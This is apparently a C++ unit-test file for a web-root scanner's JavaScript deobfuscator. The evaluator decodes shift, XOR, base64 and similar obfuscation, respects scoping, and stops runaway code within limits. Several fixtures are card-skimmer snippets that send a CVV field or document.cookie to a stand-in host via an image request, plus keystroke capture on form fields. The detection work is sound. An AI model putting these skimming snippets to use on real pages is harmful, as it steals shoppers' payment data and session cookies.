// The JavaScript decoder evaluator (js_eval.cc): a file's own decoder functions run on
// literals, the calls replaced by their strings; what the subset does not cover, and runaway
// code, end as refusals within the limits.
#include "webroot/js_eval.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "webroot/normalize.h"

namespace tq::webroot {
namespace {

std::vector<Token> Lex(std::string_view src) { return LexJs(src, LexLimits()).tokens; }

Token Str(std::string s) {
  Token t;
  t.type = Tok::kString;
  t.text = std::move(s);
  return t;
}
Token Num(std::string s) {
  Token t;
  t.type = Tok::kNumber;
  t.text = std::move(s);
  return t;
}

std::string Decode(std::string_view src, const std::string& name, std::vector<Token> args,
                   std::string* why = nullptr, JsEvalLimits limits = {}) {
  std::string out, reason;
  bool ok = RunJsDecoder(Lex(src), name, args, limits, &out, &reason);
  if (why) *why = reason;
  return ok ? out : "<refused: " + reason + ">";
}

std::string Shift(std::string_view s, int k) {
  std::string out;
  for (char c : s) out += static_cast<char>(c + k);
  return out;
}

TEST(JsEval, ShiftXorAndReverseDecoders) {
  const char* shift =
      "function d(s,k){var o='';for(var i=0;i<s.length;i++){o+=String.fromCharCode("
      "s.charCodeAt(i)-k);}return o;}";
  EXPECT_EQ(Decode(shift, "d", {Str(Shift("https://a.example/c", 3)), Num("3")}),
            "https://a.example/c");
  const char* xor_key =
      "function x(s,k){var r=[];for(var i=0;i<s.length;i++)r.push(String.fromCharCode(s."
      "charCodeAt(i)^k.charCodeAt(i%k.length)));return r.join('');}";
  std::string plain = "document.cookie", key = "k3y";
  std::string enc;
  for (size_t i = 0; i < plain.size(); ++i)
    enc += static_cast<char>(plain[i] ^ key[i % key.size()]);
  EXPECT_EQ(Decode(xor_key, "x", {Str(enc), Str(key)}), plain);
  EXPECT_EQ(Decode("var r=function(s){return s.split('').reverse().join('')};", "r",
                   {Str("moc.elpmaxe//:sptth")}),
            "https://example.com");
  // do-while, ternaries, parseInt of hex pairs, toString(36), unescape.
  EXPECT_EQ(
      Decode("function h(s){var o='',i=0;do{o+=String.fromCharCode(parseInt(s.substr(i,2),16));"
             "i+=2}while(i<s.length);return o}",
             "h", {Str("6576616c")}),
      "eval");
  EXPECT_EQ(Decode("function n(v){return v>0?(v).toString(36).split('').join(''):'x'}", "n",
                   {Num("1295")}),
            "zz");
  EXPECT_EQ(Decode("function u(s){return unescape(s)}", "u", {Str("%61%u0062c")}), "abc");
}

TEST(JsEval, TypeofOfUnboundNamesAndGlobals) {
  // Environment checks a decoder makes (is TextDecoder there?): a browser's built-ins are
  // there; a name nothing binds is "undefined".
  EXPECT_EQ(Decode("function d(s){return typeof TextDecoder+typeof Infinity+typeof s+typeof "
                   "parseInt+s.charAt(0)}",
                   "d", {Str("x")}),
            "functionnumberstringfunctionx");
}

TEST(JsEval, CustomAlphabetWithConstantsAndHelpers) {
  // A base64 decoder over a shuffled alphabet kept in a top-level constant, calling a helper.
  const char* src =
      "var A='ZYXWVUTSRQPONMLKJIHGFEDCBAzyxwvutsrqponmlkjihgfedcba9876543210+/';"
      "function c(n){return String.fromCharCode(n)}"
      "function b(s){var o='',q=0,n=0;for(var i=0;i<s.length;i++){var v=A.indexOf(s.charAt(i));"
      "if(v<0)continue;q=(q<<6)|v;n+=6;if(n>=8){n-=8;o+=c((q>>n)&255);}}return o}";
  // "fetch" in that alphabet: standard base64 "ZmV0Y2g=", each letter mapped.
  const std::string std_alpha = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  const std::string own = "ZYXWVUTSRQPONMLKJIHGFEDCBAzyxwvutsrqponmlkjihgfedcba9876543210+/";
  std::string enc;
  for (char ch : std::string("ZmV0Y2g")) enc += own[std_alpha.find(ch)];
  EXPECT_EQ(Decode(src, "b", {Str(enc)}), "fetch");
}

TEST(JsEval, CallsAreReplacedInTheFold) {
  std::string host = Shift("https://stats.example.top/c", 3);
  std::string src =
      "function d(s,k){var o='';for(var i=0;i<s.length;i++){o+=String.fromCharCode(s.charCodeAt(i)"
      "-k);}return o;}var u=d('" +
      host + "',3);new Image().src=u+'?d='+btoa(document.getElementById('cc_cvv').value);";
  std::vector<Token> t = Lex(src);
  FoldBudget budget;
  ASSERT_TRUE(FoldJsDecoders(t, budget));
  bool found = false;
  for (const Token& k : t)
    if (k.type == Tok::kString && k.text == "https://stats.example.top/c") {
      found = true;
      EXPECT_EQ(k.decoded_by, "d()");
    }
  EXPECT_TRUE(found);
  // Through Normalize: the host is read and the card data leaving is a trait.
  NormalizedCode n = Normalize(src, CodeKind::kJs);
  bool exfil = false;
  for (const CodeTrait& c : n.traits) exfil = exfil || c.id == "js.card_exfil";
  EXPECT_TRUE(exfil);
}

TEST(JsEval, WhatIsNotRunStaysAsItIs) {
  std::string why;
  // The DOM, Math.random, an object's prototype, a regular expression: refused.
  EXPECT_EQ(Decode("function d(s){return document.title+s.charAt(0)}", "d", {Str("a")}, &why)
                .rfind("<refused", 0),
            0u);
  EXPECT_NE(why.find("document"), std::string::npos);
  EXPECT_EQ(Decode("function d(s){return s.charAt(Math.random()*2)}", "d", {Str("ab")})
                .rfind("<refused", 0),
            0u);
  EXPECT_EQ(Decode("function d(s){return {a:s}.toString()}", "d", {Str("ab")}).rfind("<refused", 0),
            0u);
  EXPECT_EQ(
      Decode("function d(s){return s.replace(/a/g,'b')}", "d", {Str("ab")}).rfind("<refused", 0),
      0u);
  // Declared twice, or written again: which one runs is not known, so neither does.
  std::vector<Token> t =
      Lex("function d(s){return s.split('').reverse().join('')}function d(s){return s}"
          "var x=d('cba');");
  FoldBudget budget;
  EXPECT_FALSE(FoldJsDecoders(t, budget));
  t = Lex("function d(s){return s.split('').reverse().join('')}d=function(s){return s};d('cba');");
  EXPECT_FALSE(FoldJsDecoders(t, budget));
  // A parameter of the same name hides the decoder where it is in scope.
  t = Lex("function d(s){return s.split('').reverse().join('')}function g(d){return d('cba')}");
  EXPECT_FALSE(FoldJsDecoders(t, budget));
  t = Lex("function d(s){return s.split('').reverse().join('')}var g=(a,d)=>d('cba');");
  EXPECT_FALSE(FoldJsDecoders(t, budget));
  // A constant written elsewhere is no constant.
  t = Lex("var K=3;function d(s){return String.fromCharCode(s.charCodeAt(0)-K)}K=4;d('d');");
  EXPECT_FALSE(FoldJsDecoders(t, budget));
  // A call with a variable argument is left alone.
  t = Lex("function d(s){return s.split('').reverse().join('')}var y=d(z);");
  EXPECT_FALSE(FoldJsDecoders(t, budget));
}

// The fold's output as text: each string token quoted, words as they are.
// A one-character shift decoder: d('h', 1) is 'g'. The traced-run tests call it with what the
// page computes.
const std::string kShiftOne = "function d(s,k){return String.fromCharCode(s.charCodeAt(0)-k)}";

std::string Folded(std::string_view src, FoldBudget budget = {}) {
  std::vector<Token> t = Lex(src);
  FoldJsDecoders(t, budget);
  std::string out;
  for (const Token& k : t) out += k.type == Tok::kString ? "'" + k.text + "'" : k.text;
  return out;
}

TEST(JsEval, NamesResolveToTheBindingTheLanguageUses) {
  // The same name for the decoder's parameter, its local and an outer string: each use reads
  // its own binding.
  EXPECT_EQ(Folded("var s='zzz';function d(s){var o='';for(var i=s.length-1;i>=0;i--)"
                   "o+=s.charAt(i);return o}var x=d('cba');"),
            "vars='zzz';functiond(s){varo='';for(vari=s.length-1;i>=0;i--)o+=s.charAt(i);"
            "returno}varx='abc';");
  // A decoder declared inside a block or a function, called there; another function of the
  // same name elsewhere is not it.
  EXPECT_EQ(Folded("function d(s){return s}if(a){function d2(s){return s.split('').reverse()"
                   ".join('')}b(d2('cba'))}function g(){function d2(s){return s}return d2('pq')}"),
            "functiond(s){returns}if(a){functiond2(s){returns.split('').reverse().join('')}"
            "b('abc')}functiong(){functiond2(s){returns}returnd2('pq')}");
  // A parameter named like the decoder hides it where it is in scope.
  EXPECT_EQ(Folded("function d(s){return s.split('').reverse().join('')}"
                   "function g(d){return d('cba')}"),
            "functiond(s){returns.split('').reverse().join('')}functiong(d){returnd('cba')}");
}

TEST(JsEval, TheScriptsOwnStatementsSetWhatDecodersRead) {
  // A table assigned once at the top level, after its declaration; a constant array's element
  // as an argument; a self-replacing function called for its side effects.
  EXPECT_EQ(
      Folded("var T,K;const N=[2,'slice'];function z(){z=function(){}}"
             "function d(a,b){z();return T[N[1]](a,a+b).split('').reverse().join('')}"
             "T='..olleh..';q(d(2,N[0]),d(4,3));"),
      "varT,K;constN=[2,'slice'];functionz(){z=function(){}}functiond(a,b){z();returnT[N[1]](a,"
      "a+b).split('').reverse().join('')}T='..olleh..';q('lo','hel');");
  // Written twice at the top level, or inside a function: not settled, not read.
  std::string twice = Folded("var T='abc';function d(i){return T.charAt(i)}T='xyz';q(d(1));");
  EXPECT_NE(twice.find("q(d(1))"), std::string::npos) << twice;
  std::string inside = Folded(
      "var T='abc';function d(i){return T.charAt(i)}function w(){T='x'}"
      "q(d(1));");
  EXPECT_NE(inside.find("q(d(1))"), std::string::npos) << inside;
  // A statement that stops half-way (the DOM) spoils the arrays it changed before it stopped.
  std::string spoiled = Folded(
      "var T=['a','b'];function m(x){x.push('c')}q=m(T)+document.x;"
      "function d(i){return T.join('').charAt(i)}w(d(2));");
  EXPECT_NE(spoiled.find("w(d(2))"), std::string::npos) << spoiled;
  // Without the DOM the same statements run, and the call reads what they left.
  EXPECT_NE(Folded("var T=['a','b'];function m(x){x.push('c')}m(T);"
                   "function d(i){return T.join('').charAt(i)}w(d(2));")
                .find("w('c')"),
            std::string::npos);
}

TEST(JsEval, ClosuresExceptionsLabelsAndSwitch) {
  // A closure over a table made by an IIFE; try/catch of a ReferenceError a browser throws;
  // a labelled continue; switch with fall-through; rest and default parameters; spread.
  EXPECT_EQ(Decode("var dec=(function(){var t='abc';return function(i){return t.charAt(i)}})();"
                   "function d(s){return dec(s)+dec(s-1)}",
                   "d", {Num("2")}),
            "cb");
  EXPECT_EQ(Decode("function d(s){var g;try{g=global}catch(e){g=window}"
                   "return typeof g.String+(typeof Buffer)+s}",
                   "d", {Str("!")}),
            "functionundefined!");
  EXPECT_EQ(Decode("function d(s){var o='';a:for(var i=0;i<3;i++){for(var j=0;j<3;j++){"
                   "if(j==1)continue a;o+=s.charAt(i)}}return o}",
                   "d", {Str("xyz")}),
            "xyz");
  EXPECT_EQ(Decode("function d(n){var o='';switch(n){case 1:o+='a';case 2:o+='b';break;"
                   "default:o+='c'}return o}",
                   "d", {Num("1")}),
            "ab");
  EXPECT_EQ(Decode("function d(...a){function j(x,y={k:'-'}){return x+y.k}"
                   "return [...a,...'yz'].join(j('',undefined))}",
                   "d", {Str("w"), Str("x")}),
            "w-x-y-z");
  // An obfuscator's masked locals: named properties of a rest array, its length set.
  EXPECT_EQ(Decode("function d(...a){a.length=1;a['k']=a[0]+'!';a[-1]=2;return a['k']+a.length+"
                   "a[-1]}",
                   "d", {Str("v"), Str("w")}),
            "v!12");
  // UTF-8 bytes through TextDecoder, found on the global object.
  EXPECT_EQ(Decode("function d(s){var g=globalThis;return new g.TextDecoder().decode(new "
                   "Uint8Array([104,195,169,s]))}",
                   "d", {Num("33")}),
            "h\xc3\xa9!");
}

TEST(JsEval, AGlobalHandedBackIsNamed) {
  // A lookup function that returns a global by a concealed name: the call becomes the name
  // (the unescape call is for the other folds).
  EXPECT_EQ(Folded("function g(k){switch(k){case 'a':return window['doc'+'ument'];"
                   "case 'b':return unescape}}g('a')[g('b')('%77rite')]('x')"),
            "functiong(k){switch(k){case'a':returnwindow['doc'+'ument'];case'b':returnunescape}}"
            "document[unescape('%77rite')]('x')");
  // Nothing can be read of such a value: its properties, typeof, arithmetic are refused.
  std::string why;
  EXPECT_EQ(Decode("function d(s){return window.document.title+s.charAt(0)}", "d", {Str("a")}, &why)
                .rfind("<refused", 0),
            0u);
  EXPECT_NE(why.find("document"), std::string::npos);
}

TEST(JsEval, InheritedKeysAreStandardUnlessTheFileChangesAPrototype) {
  EXPECT_EQ(
      Decode("function f(){}function d(s){return ('zq' in f)?'':('call' in f)+s}", "d", {Str("!")}),
      "true!");
  EXPECT_EQ(Decode("Object.prototype.zq=1;function f(){}function d(s){return ('zq' in f)+s}", "d",
                   {Str("!")})
                .rfind("<refused", 0),
            0u);
}

TEST(JsEval, RunawayCodeEndsWithinTheLimits) {
  std::string why;
  EXPECT_EQ(Decode("function d(s){while(true){s.charAt(0)}return s}", "d", {Str("a")}, &why)
                .rfind("<refused", 0),
            0u);
  EXPECT_EQ(why, "step limit");
  EXPECT_EQ(Decode("function d(s){for(;;){s+=s.charAt(0)+s}return s}", "d", {Str("ab")}, &why)
                .rfind("<refused", 0),
            0u);
  EXPECT_TRUE(why == "string limit" || why == "memory limit") << why;
  EXPECT_EQ(
      Decode("function d(s){return d(s.charAt(0)+s)}", "d", {Str("a")}, &why).rfind("<refused", 0),
      0u);
  EXPECT_EQ(why, "call depth");
  EXPECT_EQ(
      Decode("function d(n){var a=[];a[n]=1;return a.join('').charAt(0)}", "d", {Num("1e9")}, &why)
          .rfind("<refused", 0),
      0u);
  EXPECT_EQ(
      Decode("function d(s){return new Array(4294967295).join(s).charAt(0)}", "d", {Str("a")}, &why)
          .rfind("<refused", 0),
      0u);
  // 5,000 nested parentheses and an unterminated body: refused, not a crash.
  std::string deep = "function d(s){return " + std::string(5000, '(') + "s.charAt(0)" +
                     std::string(5000, ')') + "}";
  EXPECT_EQ(Decode(deep, "d", {Str("a")}, &why).rfind("<refused", 0), 0u);
  EXPECT_EQ(
      Decode("function d(s){return s.split('').reverse(", "d", {Str("a")}).rfind("<refused", 0),
      0u);
  // A long left-nested sum within the node cap is evaluated without a deep stack.
  std::string sum = "function d(s){return s.charAt(0)";
  for (int i = 0; i < 1000; ++i) sum += "+s.charAt(0)";
  sum += "}";
  std::string out = Decode(sum, "d", {Str("a")}, &why);
  EXPECT_TRUE(out == std::string(1001, 'a') || out.rfind("<refused", 0) == 0) << why;
}

TEST(JsEval, StepsAreChargedToTheFoldBudget) {
  std::vector<Token> t =
      Lex("function d(s){var o='';for(var i=0;i<200000;i++){o=s.charAt(0)}return o}var "
          "a=d('x'),b=d('y');");
  FoldBudget budget;
  budget.eval_steps_left = 5000;
  EXPECT_FALSE(FoldJsDecoders(t, budget));
  EXPECT_EQ(budget.eval_steps_left, 0u);
  // Half for the script's own statements (which call it too), the rest for the calls.
  ASSERT_EQ(budget.eval_refused.size(), 1u);
  EXPECT_EQ(budget.eval_refused.begin()->rfind("js:d@", 0), 0u);
}

TEST(JsEval, ComputedArgumentsAreReadWhereTheTracedRunCallsTheDecoder) {
  // A flattened function: a state machine over an array, the decoder's arguments computed from
  // it, the page's objects in between, the whole handed to the page as a listener.
  std::string host = Shift("https://stats.example.top/c", 3);
  std::string src =
      "function d(s,k){var o='';for(var i=0;i<s.length;i++){o+=String.fromCharCode(s.charCodeAt(i)"
      "-k);}return o;}var T=['" +
      host + "','" + Shift("cookie", 3) +
      "'];document.querySelector('form').addEventListener('submit',function(e){"
      "var st=[7,1,0];while(st[0]!==0){switch(st[0]+st[1]){case 8:var v=document[d(T[st[2]+1],"
      "st[1]+2)]+'';st[0]=3;break;case 4:new Image().src=d(T[st[2]],st[0]);st[0]=0;break}}});";
  std::string out = Folded(src);
  EXPECT_NE(out.find("newImage().src='https://stats.example.top/c'"), std::string::npos) << out;
  EXPECT_NE(out.find("document['cookie']"), std::string::npos) << out;

  // A call site that returns one string on one visit and another on the next stays a call.
  src = kShiftOne +
        "var a=[4,5];for(var i=0;"
        "i<2;i++){window.x=d('h',a[i])}";
  out = Folded(src);
  EXPECT_NE(out.find("d('h',a[i])"), std::string::npos) << out;

  // A test of what the page holds: the run goes on past a guard (the branch that does not
  // leave), and a loop over it runs once.
  src = kShiftOne +
        "document.addEventListener("
        "'x',function(){if(location.href.indexOf('checkout')<0){return}var n=0;for(var i=0;"
        "i<document.forms.length;i++){n++}window.y=d('h',n)});";
  out = Folded(src);
  EXPECT_NE(out.find("window.y='g'"), std::string::npos) << out;

  // A host value is never taken as a number or text.
  src = kShiftOne + "window.z=d('h',location.hash.length);";
  out = Folded(src);
  EXPECT_NE(out.find("d('h',location.hash.length)"), std::string::npos) << out;
}

TEST(JsEval, TheTracedRunFollowsListenersAndWhatTheyStore) {
  const std::string& d = kShiftOne;
  // The listeners a listener adds run before the next one the script added: the page is left
  // after the visitor typed, so the store the keyup filled is not empty on unload (its
  // properties are named by the page: a missing one is not known to be undefined).
  std::string src = d +
                    "var st={};document.addEventListener('DOMContentLoaded',function(){['a','b']"
                    ".forEach(function(id){var e=document.getElementById(id);e.addEventListener("
                    "'keyup',function(){st[e.id]=e.value})})});window.addEventListener('unload',"
                    "function(){if(!st.cc){return}window.u=d('h',2)});";
  std::string out = Folded(src);
  EXPECT_NE(out.find("window.u='f'"), std::string::npos) << out;
  // Without a write the page named, a missing property is undefined: the guard leaves.
  src = d +
        "var st={};window.addEventListener('unload',function(){var k=st.cc?1:2;"
        "window.u=d('h',k)});";
  out = Folded(src);
  EXPECT_NE(out.find("window.u='f'"), std::string::npos) << out;
  // Arrays' callbacks: map, filter, reduce, some, every, forEach on the file's functions.
  src = d +
        "var r=[1,2,3].map(function(x){return x*2}).filter(function(x){return x>2})"
        ".reduce(function(a,x){return a+x},0);var ok=[1].some(function(x){return x==1})&&"
        "[1].every(function(x){return x==1});window.v=d('r',ok?r-9:0);";
  out = Folded(src);
  EXPECT_NE(out.find("window.v='q'"), std::string::npos) << out;
  // A packed layer's own `return` ends the script with what it wrote settled.
  src = d + "var k=1;k=2;return document.addEventListener('x',function(){window.w=d('h',k)});";
  out = Folded(src);
  EXPECT_NE(out.find("window.w='f'"), std::string::npos) << out;
}

TEST(JsEval, MethodsAndConstructorsOfTheFile) {
  // An object literal's methods (a plain and a computed key) and `new` of the file's function.
  std::string out = Folded(
      "var o={sh(s,k){return String.fromCharCode(s.charCodeAt(0)-k)},['r'+'v'](s){return "
      "s.split('').reverse().join('')}};function K(n){this.n=n}function d(s){var k=new K(1);"
      "return o.rv(o.sh(s,k.n)+'b').split('').join('')}var x=d('b');");
  EXPECT_NE(out.find("varx='ba'"), std::string::npos) << out;
  // A getter is no method: the object is not read.
  out = Folded("var o={get sh(){return 1}};function d(s){return s.charAt(o.sh)}var x=d('ab');");
  EXPECT_NE(out.find("d('ab')"), std::string::npos) << out;
}

TEST(JsEval, TheTracedRunIsBounded) {
  // A listener that never ends: the run stops at its own step limit (2^23), whatever the
  // file's budget still holds, and what it took is charged to that budget.
  std::string src = kShiftOne +
                    "var n=1;"
                    "document.body.addEventListener('x',function(){for(;;){n=n+1}});"
                    "setTimeout(function(){window.q=d('h',n)},1);";
  FoldBudget budget;
  budget.eval_steps_left = size_t{1} << 30;
  size_t before = budget.eval_steps_left;
  std::vector<Token> t = Lex(src);
  FoldJsDecoders(t, budget);
  EXPECT_GT(before - budget.eval_steps_left, size_t{1} << 22);
  EXPECT_LE(before - budget.eval_steps_left, (size_t{1} << 23) + (size_t{1} << 18));
  // Once a layer: a second call runs the script's own statements only, not the traced run.
  size_t left = budget.eval_steps_left;
  FoldJsDecoders(t, budget);
  EXPECT_LT(left - budget.eval_steps_left, 1000u);
}

}  // namespace
}  // namespace tq::webroot
